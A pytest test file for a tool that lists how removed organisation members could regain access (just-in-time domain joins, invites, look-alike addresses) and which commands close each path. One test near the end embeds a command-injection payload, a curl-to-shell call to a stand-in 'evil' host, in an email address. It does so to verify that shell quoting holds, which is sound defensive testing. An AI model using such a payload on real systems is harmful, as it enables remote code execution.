"""How somebody could come back, and what closes each way."""

from __future__ import annotations

import shlex
import subprocess
from datetime import UTC, datetime, timedelta

import pytest

from bridge.core.organization import Invite, Level, Member
from bridge.core.surroundings import Domain
from bridge.core.ways_back import Around, WayCode, of_organization, of_person

NOW = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)
MAYA = "maya@example.com"


def member(email: str, level: Level = Level.MEMBER) -> Member:
    return Member(user_uuid=f"u-{email}", membership_id="m", user_id=1, email=email, level=level)


def domain(name: str = "example.com", **fields) -> Domain:
    values = {"is_verified": True, "is_jit_enabled": False, "sso_enforcement": ""}
    return Domain(domain_id=f"d-{name}", domain=name, **(values | fields))


def invite(email: str, *, by: str = "", **fields) -> Invite:
    return Invite(
        invite_id=f"i-{email}", email=email, level=fields.pop("level", Level.MEMBER), created_by_uuid=by, **fields
    )


def around(*domains: Domain, **fields) -> Around:
    return Around(target="main", domains=domains, **fields)


def codes(found) -> list[WayCode]:
    return [way.code for way in found]


class TestOfTheOrganization:
    def test_just_in_time_without_enforced_sso_takes_everybody_back(self):
        where = around(domain(is_jit_enabled=True), open_since={"d-example.com": NOW - timedelta(days=3)})
        (way,) = of_organization(where)
        assert way.what.startswith("example.com takes removed people back")
        assert way.since == NOW - timedelta(days=3)
        assert way.command == "close-way jit example.com --target main"

    def test_with_enforced_sso_it_is_told_and_not_open(self):
        (way,) = of_organization(around(domain(is_jit_enabled=True, sso_enforcement="saml")))
        assert (way.code, way.is_open) == (WayCode.ENFORCED_JIT, False)

    @pytest.mark.parametrize("shut", [{"is_verified": False}, {"is_jit_enabled": False}])
    def test_a_domain_that_is_not_verified_or_has_it_off_is_no_way(self, shut):
        assert of_organization(around(domain(**{"is_jit_enabled": True, **shut}))) == ()

    def test_posthog_s_own_scim_beside_us_is_one(self):
        assert codes(of_organization(around(domain(has_scim=True)))) == [WayCode.OTHER_SCIM]

    def test_members_outside_the_verified_domains_are_named(self):
        (way,) = of_organization(around(domain(), members=(member(MAYA), member("joe@agency.example"))))
        assert way.code is WayCode.OUTSIDE_DOMAINS
        assert way.what.startswith("1 member outside the verified domains")
        assert "joe@agency.example" in way.what

    def test_without_a_verified_domain_nobody_is_outside(self):
        assert of_organization(around(members=(member(MAYA),))) == ()

    def test_what_is_open_comes_first(self):
        found = of_organization(
            around(domain(has_scim=True), domain("b.example", is_jit_enabled=True, sso_enforcement="x"))
        )
        assert codes(found) == [WayCode.OTHER_SCIM, WayCode.ENFORCED_JIT]

    def test_before_anything_was_seen_nothing_is_told(self):
        assert of_organization(Around(target="main")) == ()


class TestOfOnePerson:
    def test_only_the_domains_of_their_addresses_count(self):
        where = around(domain(is_jit_enabled=True), domain("other.example", is_jit_enabled=True))
        assert [w.what.split()[0] for w in of_person(where, [MAYA], [])] == ["example.com"]

    def test_an_open_invite_to_any_of_their_addresses_is_one(self):
        where = around(invites=(invite("Maya@Example.com", created_at=NOW), invite("x@example.com")))
        (way,) = of_person(where, [MAYA], [])
        assert (way.code, way.since, way.command) == (
            WayCode.INVITE,
            NOW,
            "close-way invite i-Maya@Example.com --target main",
        )

    def test_an_expired_invite_is_none(self):
        assert of_person(around(invites=(invite(MAYA, is_expired=True),)), [MAYA], []) == ()

    def test_an_invite_that_they_sent_to_another_is_one(self):
        where = around(invites=(invite("friend@elsewhere.example", by="u-1", level=Level.OWNER),))
        (way,) = of_person(where, [MAYA], ["u-1"])
        assert way.code is WayCode.INVITE_SENT
        assert "It would make an owner" in way.what

    def test_invites_without_a_sender_are_nobody_s(self):
        assert of_person(around(invites=(invite("a@b.example"),)), [MAYA], [""]) == ()

    def test_a_look_alike_is_one_until_somebody_says_it_is_not_theirs(self):
        where = around(members=(member("maya+test@example.com"),))
        (way,) = of_person(where, [MAYA], [])
        assert (way.code, way.command) == (WayCode.LOOK_ALIKE, f"link {MAYA} maya+test@example.com --target main")
        assert of_person(where, [MAYA], [], ["u-maya+test@example.com"]) == ()

    def test_an_address_that_spells_a_command_is_no_command_where_it_is_pasted(self):
        """A member chooses their address, and all of this may stand before the @."""
        address = "maya+`curl$IFS'evil'|sh`&#@example.com"
        (way,) = of_person(around(members=(member(address),)), [MAYA], [])

        assert shlex.split(way.command) == ["link", MAYA, address, "--target", "main"]
        (pasted,) = subprocess.run(
            ["/bin/sh", "-c", f"printf '%s\n' {way.command} | wc -l"], check=True, capture_output=True, text=True
        ).stdout.split()
        assert pasted == "5"

    def test_their_own_account_is_no_look_alike(self):
        assert of_person(around(members=(member(MAYA),)), [MAYA], []) == ()
